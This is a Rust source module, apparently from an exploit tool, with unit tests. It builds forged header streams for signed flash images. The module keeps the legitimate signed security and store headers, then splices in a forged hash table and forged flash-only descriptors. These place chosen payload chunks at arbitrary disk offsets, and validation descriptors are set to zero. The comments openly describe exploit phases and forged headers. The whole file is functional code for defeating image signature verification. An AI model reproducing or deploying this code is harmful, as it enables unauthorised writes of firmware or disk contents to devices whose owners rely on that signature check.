//! Binary layout of the security and store headers, and construction of the
//! header stream carried by one exploit phase.
//!
//! All offsets are relative to the start of their header and all fields are
//! little-endian.

use crate::{
    error::{Error, Result},
    ffu::ImageError,
    planner::{ChunkHash, Payload, HASH_ENTRY_SIZE, LOCATION_ENTRY_SIZE},
};
use bytes::{BufMut, BytesMut};
use std::ops::Range;

/// Offsets within the security header.
pub mod security {
    pub const SIGNATURE_OFFSET: usize = 0x04;
    pub const SIGNATURE: &[u8; 12] = b"SignedImage ";
    pub const CHUNK_SIZE_KB: usize = 0x10;
    pub const CATALOG_SIZE: usize = 0x18;
    pub const HASH_TABLE_SIZE: usize = 0x1C;
    /// Size of the fixed part, the catalog follows it.
    pub const HEADER_SIZE: usize = 0x20;
}

/// Offsets within the store header.
pub mod store {
    pub const PLATFORM_ID: usize = 0x0C;
    pub const PLATFORM_ID_LEN: usize = 0xC0;
    pub const DESCRIPTOR_COUNT: usize = 0xD0;
    pub const DESCRIPTOR_LENGTH: usize = 0xD4;
    pub const VALIDATE_COUNT: usize = 0xD8;
    pub const VALIDATE_LENGTH: usize = 0xDC;
    pub const FLASH_ONLY_COUNT: usize = 0xE8;
    pub const FLASH_ONLY_LENGTH: usize = 0xEC;
    /// Size of the fixed part, the descriptor records follow it.
    pub const HEADER_SIZE: usize = 0xF8;
}

/// Disk access method of a location record: offset from the disk start.
pub const ACCESS_METHOD_BEGIN: u32 = 0;

/// Chunk index the partition table is written to.
pub const PARTITION_TABLE_CHUNK: u32 = 0;

/// The signed headers of the reference image, used as the legitimate part of
/// every forged header.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HeaderTemplate {
    security: Vec<u8>,
    store: Vec<u8>,
    chunk_size: u32,
}

impl HeaderTemplate {
    /// `security` holds the security header, catalog and hash table, `store`
    /// holds the store header and its descriptors.
    pub fn new(security: Vec<u8>, store: Vec<u8>, chunk_size: u32) -> Result<Self, ImageError> {
        if security.len() < security::HEADER_SIZE
            || &security[security::SIGNATURE_OFFSET..security::SIGNATURE_OFFSET + 12]
                != security::SIGNATURE
        {
            return Err(ImageError::BadSignature("security header"));
        }
        if store.len() < store::HEADER_SIZE {
            return Err(ImageError::Truncated("store header"));
        }
        let template = HeaderTemplate {
            security,
            store,
            chunk_size,
        };
        if security::HEADER_SIZE + template.catalog_size() > template.security.len() {
            return Err(ImageError::Truncated("catalog"));
        }
        Ok(template)
    }

    pub fn security(&self) -> &[u8] {
        &self.security
    }

    pub fn store(&self) -> &[u8] {
        &self.store
    }

    pub fn chunk_size(&self) -> u32 {
        self.chunk_size
    }

    pub fn catalog_size(&self) -> usize {
        read_u32(&self.security, security::CATALOG_SIZE) as usize
    }

    /// Offset of the first hash entry in a header stream.
    pub fn hash_table_offset(&self) -> usize {
        security::HEADER_SIZE + self.catalog_size()
    }

    /// Offset of the store header in a stream whose hash table is
    /// `hash_bytes` long. The security region is padded to whole chunks.
    pub fn store_offset(&self, hash_bytes: usize) -> usize {
        let chunk = self.chunk_size as usize;
        (self.hash_table_offset() + hash_bytes + chunk - 1) / chunk * chunk
    }

    /// Length of a stream carrying the given table sizes.
    pub fn stream_len(&self, hash_bytes: usize, descriptor_bytes: usize) -> usize {
        self.store_offset(hash_bytes) + store::HEADER_SIZE + descriptor_bytes
    }
}

/// Table usage of a phase under construction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TableUsage {
    pub hash_bytes: usize,
    pub descriptor_bytes: usize,
    pub descriptors: usize,
}

impl TableUsage {
    /// Usage of a phase holding only the partition table entry.
    pub fn partition_table_only() -> Self {
        TableUsage {
            hash_bytes: HASH_ENTRY_SIZE,
            descriptor_bytes: 2 * LOCATION_ENTRY_SIZE,
            descriptors: 1,
        }
    }

    fn with(&self, payload: &Payload) -> Self {
        TableUsage {
            hash_bytes: self.hash_bytes + payload.hash_table_bytes(),
            descriptor_bytes: self.descriptor_bytes + payload.descriptor_bytes(),
            descriptors: self.descriptors + 1,
        }
    }
}

/// Splits `payloads` into phases that each fit in a header of `capacity`
/// bytes. Every phase also carries the partition table entry.
pub fn pack_phases(
    payloads: &[Payload],
    template: &HeaderTemplate,
    capacity: usize,
) -> Result<Vec<Range<usize>>> {
    let fits = |usage: &TableUsage| {
        template.stream_len(usage.hash_bytes, usage.descriptor_bytes) <= capacity
    };

    let mut phases = Vec::new();
    let mut start = 0;
    let mut usage = TableUsage::partition_table_only();
    for (index, payload) in payloads.iter().enumerate() {
        let next = usage.with(payload);
        if fits(&next) {
            usage = next;
            continue;
        }

        // Headers full: close the phase and retry the payload in a new one.
        let alone = TableUsage::partition_table_only().with(payload);
        if !fits(&alone) {
            return Err(Error::PayloadTooBig {
                index,
                needed: template.stream_len(alone.hash_bytes, alone.descriptor_bytes),
                capacity,
            });
        }
        phases.push(start..index);
        start = index;
        usage = alone;
    }
    phases.push(start..payloads.len());
    Ok(phases)
}

/// Builds the header stream of one phase: the legitimate security header
/// and catalog followed by the forged hash table, then the legitimate store
/// header followed by the forged descriptors. The partition table chunk is
/// always the first entry.
pub fn build_phase_stream(
    template: &HeaderTemplate,
    partition_table_hash: &ChunkHash,
    payloads: &[Payload],
) -> BytesMut {
    let usage = payloads
        .iter()
        .fold(TableUsage::partition_table_only(), |usage, p| usage.with(p));
    let store_offset = template.store_offset(usage.hash_bytes);
    let mut stream =
        BytesMut::with_capacity(template.stream_len(usage.hash_bytes, usage.descriptor_bytes));

    let mut security_header = template.security[..template.hash_table_offset()].to_vec();
    patch_security(&mut security_header, usage.hash_bytes as u32);
    stream.put_slice(&security_header);

    stream.put_slice(partition_table_hash);
    for payload in payloads {
        for hash in &payload.chunk_hashes {
            stream.put_slice(hash);
        }
    }
    stream.put_bytes(0, store_offset - stream.len());

    let mut store_header = template.store[..store::HEADER_SIZE].to_vec();
    patch_store(
        &mut store_header,
        usage.descriptors as u32,
        usage.descriptor_bytes as u32,
    );
    stream.put_slice(&store_header);

    put_descriptor(&mut stream, 1, &[PARTITION_TABLE_CHUNK]);
    for payload in payloads {
        put_descriptor(&mut stream, payload.chunk_count, &payload.target_chunk_indices);
    }
    stream
}

/// Declares a hash table of `hash_bytes` in a security header.
pub fn patch_security(header: &mut [u8], hash_bytes: u32) {
    write_u32(header, security::HASH_TABLE_SIZE, hash_bytes);
}

/// Declares `count` descriptors spanning `length` bytes in a store header.
/// Every forged descriptor is flash-only and no validation descriptors are
/// declared, so the records start right after the fixed part.
pub fn patch_store(header: &mut [u8], count: u32, length: u32) {
    write_u32(header, store::DESCRIPTOR_COUNT, count);
    write_u32(header, store::DESCRIPTOR_LENGTH, length);
    write_u32(header, store::VALIDATE_COUNT, 0);
    write_u32(header, store::VALIDATE_LENGTH, 0);
    write_u32(header, store::FLASH_ONLY_COUNT, count);
    write_u32(header, store::FLASH_ONLY_LENGTH, length);
}

fn put_descriptor(stream: &mut BytesMut, chunk_count: u32, targets: &[u32]) {
    stream.put_u32_le(targets.len() as u32);
    stream.put_u32_le(chunk_count);
    for &target in targets {
        stream.put_u32_le(ACCESS_METHOD_BEGIN);
        stream.put_u32_le(target);
    }
}

pub(crate) fn read_u32(data: &[u8], offset: usize) -> u32 {
    let mut raw = [0u8; 4];
    raw.copy_from_slice(&data[offset..offset + 4]);
    u32::from_le_bytes(raw)
}

pub(crate) fn write_u32(data: &mut [u8], offset: usize, value: u32) {
    data[offset..offset + 4].copy_from_slice(&value.to_le_bytes());
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) const CHUNK: u32 = 0x1000;
    pub(crate) const CATALOG: usize = 0x40;

    /// Legitimate headers describing two chunks.
    pub(crate) fn template() -> HeaderTemplate {
        let mut security = vec![0u8; security::HEADER_SIZE + CATALOG + 2 * HASH_ENTRY_SIZE];
        write_u32(&mut security, 0, security::HEADER_SIZE as u32);
        security[4..16].copy_from_slice(security::SIGNATURE);
        write_u32(&mut security, security::CHUNK_SIZE_KB, CHUNK / 1024);
        write_u32(&mut security, security::CATALOG_SIZE, CATALOG as u32);
        write_u32(&mut security, security::HASH_TABLE_SIZE, 2 * HASH_ENTRY_SIZE as u32);
        security[security::HEADER_SIZE..security::HEADER_SIZE + CATALOG].fill(0xca);

        let mut store = vec![0u8; store::HEADER_SIZE + 2 * 16];
        store[store::PLATFORM_ID..store::PLATFORM_ID + 8].copy_from_slice(b"TEST.PLT");
        write_u32(&mut store, store::DESCRIPTOR_COUNT, 2);
        write_u32(&mut store, store::DESCRIPTOR_LENGTH, 32);
        HeaderTemplate::new(security, store, CHUNK).unwrap()
    }

    fn payload(targets: &[u32], chunks: u32, fill: u8) -> Payload {
        Payload {
            chunk_count: chunks,
            chunk_hashes: vec![[fill; 32]; chunks as usize],
            target_chunk_indices: targets.to_vec(),
            source_refs: vec![],
        }
    }

    #[test]
    fn test_template_rejects_bad_signature() {
        let mut security = template().security().to_vec();
        security[4] = b'X';
        assert!(matches!(
            HeaderTemplate::new(security, template().store().to_vec(), CHUNK),
            Err(ImageError::BadSignature(_))
        ));
    }

    #[test]
    fn test_phase_stream_layout() {
        let template = template();
        let payloads = vec![payload(&[5], 2, 0x11), payload(&[9, 12], 1, 0x22)];
        let stream = build_phase_stream(&template, &[0xee; 32], &payloads);

        // 1 + 2 + 1 hashes.
        let hash_bytes = 4 * 32;
        assert_eq!(read_u32(&stream, security::CATALOG_SIZE), CATALOG as u32);
        assert_eq!(read_u32(&stream, security::HASH_TABLE_SIZE), hash_bytes);
        let hashes = template.hash_table_offset();
        assert_eq!(&stream[hashes..hashes + 32], &[0xee; 32]);
        assert_eq!(&stream[hashes + 32..hashes + 96], &[0x11; 64][..]);
        assert_eq!(&stream[hashes + 96..hashes + 128], &[0x22; 32]);

        let store = template.store_offset(hash_bytes as usize);
        assert_eq!(store, CHUNK as usize);
        let platform = store + store::PLATFORM_ID;
        assert_eq!(&stream[platform..platform + 8], b"TEST.PLT");
        assert_eq!(read_u32(&stream, store + store::DESCRIPTOR_COUNT), 3);
        assert_eq!(read_u32(&stream, store + store::DESCRIPTOR_LENGTH), 16 + 16 + 24);
        assert_eq!(read_u32(&stream, store + store::FLASH_ONLY_COUNT), 3);
        assert_eq!(read_u32(&stream, store + store::FLASH_ONLY_LENGTH), 56);

        let d = store + store::HEADER_SIZE;
        let words: Vec<u32> = (0..14).map(|i| read_u32(&stream, d + 4 * i)).collect();
        assert_eq!(
            words,
            vec![1, 1, 0, 0, 1, 2, 0, 5, 2, 1, 0, 9, 0, 12]
        );
        assert_eq!(stream.len(), d + 56);
    }

    #[test]
    fn test_pack_phases_splits_when_headers_are_full() {
        let template = template();
        // Room for eight descriptors per phase.
        let payloads: Vec<_> = (0..200).map(|i| payload(&[i + 1], 1, i as u8)).collect();
        let capacity = template.stream_len(0x1000, 0) + 8 * 16;
        let phases = pack_phases(&payloads, &template, capacity).unwrap();
        assert!(phases.len() > 1);
        assert_eq!(phases.first().unwrap().start, 0);
        assert_eq!(phases.last().unwrap().end, payloads.len());
        for pair in phases.windows(2) {
            assert_eq!(pair[0].end, pair[1].start);
        }
        for phase in &phases {
            let usage = payloads[phase.clone()]
                .iter()
                .fold(TableUsage::partition_table_only(), |u, p| u.with(p));
            assert!(template.stream_len(usage.hash_bytes, usage.descriptor_bytes) <= capacity);
        }
    }

    #[test]
    fn test_pack_phases_single_phase() {
        let template = template();
        let payloads = vec![payload(&[1], 1, 1), payload(&[2, 3], 1, 2)];
        let phases = pack_phases(&payloads, &template, 0x4000).unwrap();
        assert_eq!(phases, vec![0..2]);
    }

    #[test]
    fn test_pack_phases_rejects_oversized_payload() {
        let template = template();
        let payloads = vec![payload(&[1], 200, 1)];
        assert!(matches!(
            pack_phases(&payloads, &template, 0x1200),
            Err(Error::PayloadTooBig { index: 0, .. })
        ));
    }
}
